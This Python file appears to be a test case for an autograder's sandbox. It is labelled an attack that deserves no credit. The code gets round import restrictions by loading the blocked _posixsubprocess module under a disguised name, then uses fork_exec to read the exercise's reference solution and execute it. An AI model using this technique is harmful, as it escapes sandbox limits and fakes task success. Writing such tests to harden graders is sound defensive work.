# attack: loads a module that may not be imported under a name that may, and starts a program
# exercise: derivatives
# deserves: nothing
import importlib.machinery
import importlib.util
import os
import sys

try:
    for place in sys.path:
        for suffix in importlib.machinery.EXTENSION_SUFFIXES:
            path = os.path.join(place, "_posixsubprocess" + suffix)
            if os.path.exists(path):
                spec = importlib.util.spec_from_file_location("innocent._posixsubprocess", path)
    start = importlib.util.module_from_spec(spec).fork_exec
    ours, theirs = os.pipe()
    failed, failure = os.pipe()
    command = [b"cat", b"@ROOT@/solutions/derivatives.py"]
    start(
        command, [b"/bin/cat"], True, (), None, [], -1, -1, -1, theirs, -1, -1, failed, failure,
        False, False, -1, None, None, None, -1, None, False,
    )  # fmt: skip
    os.close(theirs)
    exec(os.read(ours, 100_000))
except Exception as error:
    print(error)
